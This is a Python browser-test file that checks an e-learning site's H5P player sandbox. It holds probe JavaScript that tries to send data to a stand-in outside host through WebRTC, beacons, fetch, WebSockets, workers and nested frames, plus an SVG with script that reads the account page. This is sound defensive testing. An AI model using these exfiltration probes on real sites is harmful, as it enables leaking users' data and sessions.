# ruff: noqa: E501 (the probe packages' JavaScript reads better unwrapped)
"""H5P packages in a real Chromium: a hostile package reaches nothing beyond the site (no
WebRTC, no frames, workers, fetch, beacons or navigation, also not through a nested
frame); an SVG or XML with script opened on its own runs nothing; content without a
score completes (when it reports so, even at once, or with "I have finished"); and a
second open is served from the browser's cache.

These tests open their own browser contexts without the `visit` fixture's request
routing: routing would both stop foreign requests itself (hiding what the browser lets
through) and switch the browser's cache off."""

import http.server
import io
import socket
import threading

import pytest
from playwright.sync_api import expect

from courses.models import ModulePage
from h5p.assets import asset_base_url, library_digest
from h5p.models import ActivityStatement
from h5p.services import package_import
from tests.browser.conftest import PHONE
from tests.browser.test_foundation import sign_in
from tests.h5p import synthetic
from tests.h5p.conftest import add_h5p_block

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

OPEN = "Відкрити завдання"


class Outside:
    """A host beyond the site: an HTTP server and a UDP port (STUN/TURN), noting every
    request and datagram that reaches them."""

    def __init__(self):
        self.hits = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        self.udp_port = self.udp.getsockname()[1]

    def datagrams(self):
        received = []
        try:
            while True:
                received.append(self.udp.recv(2048))
        except OSError:
            return received

    def close(self):
        self.http.shutdown()
        self.udp.close()


@pytest.fixture
def outside():
    host = Outside()
    yield host
    host.close()


@pytest.fixture
def tab(browser, live_server, live_server_requests):
    """A phone-sized tab on the live server, its console kept, no request routing."""
    context = browser.new_context(viewport=PHONE, locale="uk-UA", base_url=live_server.url)
    page = context.new_page()
    page.site_url = live_server.url  # for tests/browser/sessions.py
    page.console_lines = []
    page.on("console", lambda message: page.console_lines.append(message.text))
    yield page
    context.close()
    live_server_requests.wait_until_quiet()


def runnable(name, js, files=None):
    """A one-library content type whose script is `js` (written here, not third-party)."""
    folder = synthetic.library(name, (1, 0, 0), runnable=True, js=js.encode(), files=files)
    return synthetic.package(name, main=name, libraries=folder)


def play(module_slug, package, title, *, required=False, completion="answered"):
    content = package_import(file=io.BytesIO(package), title=title, language="uk")
    module = ModulePage.objects.get(slug=module_slug, locale__language_code="uk")
    module = add_h5p_block(module, {"uk": content, "ru": content}, required=required, block_id=title)
    for page in (module, module.get_translation(_ru())):
        page = ModulePage.objects.get(pk=page.pk)
        for block in page.body:
            if block.id == title:
                block.value["completion"] = completion
                block.value["title"] = title
        page.save_revision().publish()
    return content, ModulePage.objects.get(pk=module.pk)


def _ru():
    from wagtail.models import Locale

    return Locale.objects.get(language_code="ru")


def open_activity(page, module, title):
    page.goto(module.url)
    card = page.locator("section[data-h5p-activity]", has=page.get_by_role("heading", name=title))
    card.get_by_role("button", name=OPEN).click()
    return card, card.frame_locator("iframe")


PROBE_JS = """
var H5P = window.H5P = window.H5P || {};
H5P.ConectaProbeNet = (function () {
  function Probe() {}
  Probe.prototype.attach = function ($container) {
    var root = $container.get ? $container.get(0) : $container;
    var outside = "%(outside)s";
    function report(name, value) {
      var line = document.createElement("p");
      line.className = "probe-" + name;
      line.textContent = value;
      root.appendChild(line);
    }
    function attempt(name, action) {
      try { report(name, "done:" + action()); } catch (error) { report(name, "blocked:" + error.name); }
    }
    attempt("webrtc", function () {
      var Connection = window.RTCPeerConnection || window.webkitRTCPeerConnection;
      var connection = new Connection({ iceServers: [{ urls: "stun:127.0.0.1:%(udp)s" },
        { urls: "turn:127.0.0.1:%(udp)s", username: "typed-by-trainee", credential: "x" }] });
      connection.createDataChannel("leak");
      connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });
      return "made";
    });
    attempt("blank-frame", function () {
      var frame = document.createElement("iframe");
      document.body.appendChild(frame);
      return typeof frame.contentWindow.RTCPeerConnection;
    });
    attempt("srcdoc-frame", function () {
      var frame = document.createElement("iframe");
      frame.srcdoc = '<script src="' + H5P.getLibraryPath("H5P.ConectaProbeNet-1.0") + '/nested.js"><\\/script>';
      document.body.appendChild(frame);
      return "inserted";
    });
    attempt("srcdoc-html", function () {
      var holder = document.createElement("div");
      holder.innerHTML = '<iframe srcdoc="<b>x</b>"></iframe>';
      return "parsed";
    });
    attempt("data-frame", function () {
      var frame = document.createElement("iframe");
      frame.src = "data:text/html,<script>parent.postMessage('data frame ran','*')<\\/script>";
      document.body.appendChild(frame);
      return "inserted";
    });
    attempt("worker", function () { new Worker(H5P.getLibraryPath("H5P.ConectaProbeNet-1.0") + "/nested.js"); return "made"; });
    attempt("blob-worker", function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + outside + "/worker')"]))); return "made"; });
    attempt("beacon", function () { return navigator.sendBeacon(outside + "/beacon", "leak"); });
    attempt("websocket", function () { new WebSocket(outside.replace("http", "ws") + "/socket"); return "made"; });
    attempt("image", function () { new Image().src = outside + "/image"; return "set"; });
    attempt("popup", function () { return String(window.open(outside + "/popup")); });
    fetch(outside + "/fetch").then(function () { report("fetch", "done"); }, function (error) { report("fetch", "blocked:" + error.name); });
    window.addEventListener("message", function (event) { report("message", String(event.data)); });
  };
  return Probe;
})();
"""

NESTED_JS = """
var reached = typeof RTCPeerConnection;
try { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:%(udp)s" }] }).createDataChannel("x"); } catch (e) {}
try { fetch("%(outside)s/nested"); } catch (e) {}
parent.postMessage("nested ran: " + reached, "*");
"""


def test_the_probe_package_reaches_nothing_beyond_the_site(tab, demo, outside):
    values = {"outside": outside.url, "udp": outside.udp_port}
    package = runnable(
        "H5P.ConectaProbeNet", PROBE_JS % values, files={"nested.js": (NESTED_JS % values).encode()}
    )
    _content, module = play("hiv", package, "Проба мережі")
    sign_in(tab)

    _card, player = open_activity(tab, module, "Проба мережі")

    expect(player.locator(".probe-fetch")).to_have_text("blocked:TypeError")
    report = {
        name: player.locator(f".probe-{name}").text_content()
        for name in ("webrtc", "blank-frame", "srcdoc-frame", "srcdoc-html", "worker", "beacon", "popup")
    }
    assert report["webrtc"] == "blocked:TypeError"  # no RTCPeerConnection in the frame at all
    assert report["blank-frame"] == "blocked:SecurityError"  # a nested frame's window is out of reach
    assert report["srcdoc-frame"] == "blocked:TypeError"  # the Trusted Types policy refuses srcdoc
    assert report["srcdoc-html"] == "blocked:TypeError"
    assert report["worker"] == "blocked:SecurityError"
    assert report["popup"] == "done:null"
    # Navigating the frame itself away: the module page's frame-src keeps it on the site.
    player.locator("body").evaluate(f"() => {{ window.location.href = '{outside.url}/navigate'; }}")
    tab.wait_for_timeout(1500)

    assert outside.hits == []  # no HTTP request of any kind reached the outside host
    assert outside.datagrams() == []  # no STUN or TURN packet either
    assert not any("nested ran" in line or "data frame ran" in line for line in tab.console_lines)


HOSTILE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
    b'document.documentElement.setAttribute("data-ran", "yes");'
    b'fetch("/uk/accounts/").then(function (r) { return r.text(); }).then(function (t) {'
    b'document.documentElement.setAttribute("data-read", t.length); });'
    b"</script></svg>"
)
HOSTILE_XML = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>'
    b'document.documentElement.setAttribute("data-ran", "yes");'
    b"</script></body></html>"
)


def test_an_svg_or_xml_with_script_opened_from_its_address_runs_nothing(tab, demo):
    hostile = {"icon.svg": HOSTILE_SVG, "data/page.xml": HOSTILE_XML}
    package = runnable("H5P.ConectaImages", "var H5P = window.H5P || {};", files=hostile)
    content = package_import(file=io.BytesIO(package), title="Зображення", language="uk")
    library = content.libraries.get()
    sign_in(tab)  # a signed-in trainee: a script would have a session to use
    addresses = [
        asset_base_url(content) + "libraries/H5P.ConectaImages-1.0/icon.svg",
        f"/h5p/assets/lib/H5P.ConectaImages-1.0/{library_digest(library)}/icon.svg",
        asset_base_url(content) + "libraries/H5P.ConectaImages-1.0/data/page.xml",
    ]

    for address in addresses:
        response = tab.goto(address)
        assert response.status == 200
        tab.wait_for_timeout(300)
        assert tab.evaluate("document.documentElement.getAttribute('data-ran')") is None, address
        assert tab.evaluate("document.documentElement.getAttribute('data-read')") is None, address


# Reports "completed" as it starts, as Accordion does: before a late listener would hear it.
EARLY_JS = """
var H5P = window.H5P = window.H5P || {};
H5P.ConectaEarly = (function (EventDispatcher) {
  function Early() { EventDispatcher.call(this); }
  Early.prototype = Object.create(EventDispatcher.prototype);
  Early.prototype.attach = function ($container) {
    ($container.get ? $container.get(0) : $container).textContent = "Розділи прочитано";
    this.triggerXAPI("experienced");
  };
  return Early;
})(H5P.EventDispatcher);
"""

# Shows text and never reports anything, as Dialogcards does for a required block.
SILENT_JS = """
var H5P = window.H5P = window.H5P || {};
H5P.ConectaSilent = (function () {
  function Silent() {}
  Silent.prototype.attach = function ($container) {
    ($container.get ? $container.get(0) : $container).textContent = "Картки";
  };
  return Silent;
})();
"""


def test_content_without_a_score_that_reports_at_once_completes_the_activity(tab, demo):
    content, module = play("hiv", runnable("H5P.ConectaEarly", EARLY_JS), "Акордеон", required=True)
    sign_in(tab)

    card, player = open_activity(tab, module, "Акордеон")

    expect(player.get_by_text("Розділи прочитано")).to_be_visible()
    expect(card.get_by_role("status")).to_have_text("Вашу відповідь збережено.")
    kept = ActivityStatement.objects.get(content=content)
    assert kept.completes_activity and kept.verb.endswith("/experienced")


def test_silent_content_is_completed_with_i_have_finished(tab, demo):
    content, module = play("hiv", runnable("H5P.ConectaSilent", SILENT_JS), "Картки", required=True)
    sign_in(tab)

    card, player = open_activity(tab, module, "Картки")
    expect(player.get_by_text("Картки")).to_be_visible()
    assert not ActivityStatement.objects.filter(content=content).exists()
    card.get_by_role("button", name="Завершити завдання").click()

    expect(card.get_by_role("status")).to_have_text("Вашу відповідь збережено.")
    assert ActivityStatement.objects.get(content=content).completes_activity
    expect(card.get_by_role("button", name="Завершити завдання")).to_be_hidden()


def _transferred(page, action) -> tuple[int, int]:
    """Requests and bytes on the wire (headers and body as received) while `action` runs."""
    sizes = []

    def finished(request):
        measured = request.sizes()
        sizes.append(measured["responseBodySize"] + measured["responseHeadersSize"])

    page.on("requestfinished", finished)
    action()
    page.wait_for_timeout(1500)
    page.remove_listener("requestfinished", finished)
    return len([size for size in sizes if size > 0]), sum(sizes)


def test_a_second_open_comes_from_the_browsers_cache(tab, demo):
    libraries = synthetic.chain()
    libraries["H5P.SampleChoice-1.16"]["scripts/main.js"] = (
        "var H5P = window.H5P = window.H5P || {};\n"
        + "".join(f"var answer{i} = {i * 7919 % 10007};\n" for i in range(6000))
        + "H5P.SampleChoice = function () {\n"
        + "  this.attach = function ($c) { $c.get(0).textContent = 'Вибір'; };\n"
        + "};\n"
    ).encode()
    _content, module = play("hiv", synthetic.package("Вибір", libraries=libraries), "Вибір")
    sign_in(tab)

    def open_it():
        card.get_by_role("button", name=OPEN).click()
        expect(card.frame_locator("iframe").get_by_text("Вибір")).to_be_visible()

    tab.goto(module.url)
    card = tab.locator("section[data-h5p-activity]", has=tab.get_by_role("heading", name="Вибір"))
    first_requests, first = _transferred(tab, open_it)
    tab.reload()  # the module page again, as a trainee coming back
    second_requests, second = _transferred(tab, open_it)

    print(f"first open: {first_requests} requests, {first} B; second: {second_requests} requests, {second} B")
    assert second < first * 0.05
